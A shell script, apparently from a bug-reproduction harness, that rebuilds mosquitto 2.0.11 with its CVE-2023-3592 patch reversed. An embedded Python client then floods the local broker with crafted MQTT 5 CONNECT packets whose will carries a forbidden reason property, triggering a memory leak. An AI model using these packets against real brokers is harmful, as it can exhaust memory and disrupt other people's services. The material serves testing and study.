#!/bin/sh
# mosquitto 2.0.11 (CVE-2023-3592): what a will message's properties hold is lost when one
# behind them is of a kind that a will may not have.
# right: property__process_will, which returns without its list. It is allocated by
# property__read_all < will__read < handle__connect.
# Debian's source without its patch CVE-2023-3592, stripped; the broker in the foreground.
. "$(dirname "$0")/common.sh"
N=${1:-4000}
need python3 cmake libssl-dev
BROKER=${MOSQUITTO:-$WORK/mosquitto-2.0.11/b/src/mosquitto}
if [ ! -x "$BROKER" ]; then
  apt-get source -qq mosquitto && cd mosquitto-2.0.11
  patch -s -R -p1 <debian/patches/CVE-2023-3592.patch
  mkdir b && cd b
  cmake .. -DCMAKE_BUILD_TYPE=None -DCMAKE_C_FLAGS="$(dpkg-buildflags --get CFLAGS)" \
    -DDOCUMENTATION=OFF -DWITH_LIB_CPP=OFF -DWITH_CJSON=OFF
  make mosquitto && strip src/mosquitto
  cd "$WORK"
fi
cat >clients.py <<'P'
# Connects as MQTT 5, with a will of three properties: two of the user's, then a reason, which no
# will may have.
import os, signal, socket, struct, sys, time
port, n = int(sys.argv[1]), int(sys.argv[2])
def text(s):
    return struct.pack(">H", len(s)) + s
def user(key, value):
    return b"\x26" + text(key) + text(value)
will = user(b"room", b"cellar of the house") + user(b"sensor", b"temperature") + b"\x1f" + text(b"why")
def packet(i):
    body = text(b"MQTT") + b"\x05\x06" + struct.pack(">H", 60) + b"\x00" + text(b"c%d" % i) \
        + bytes([len(will)]) + will + text(b"t") + text(b"gone")
    return b"\x10" + bytes([len(body)]) + body
refused = 0
for i in range(n):
    for _ in range(100):
        try:
            s = socket.create_connection(("127.0.0.1", port))
            break
        except ConnectionRefusedError:
            time.sleep(0.1)
    s.sendall(packet(i))
    try:
        refused += s.recv(100)[3:4] != b"\x00"
    except ConnectionResetError:
        refused += 1
    s.close()
print(refused, "clients were refused", file=sys.stderr)
P
PORT=${PORT:-18831}
printf 'listener %s 127.0.0.1\nallow_anonymous true\nuser root\nlog_type none\npid_file %s\n' \
  "$PORT" "$PWD/m.pid" >m.conf
${TOOL:-} "$BROKER" -c m.conf &
tool=$!
python3 clients.py "$PORT" "$N"
kill -TERM "$(cat m.pid)"
wait "$tool"
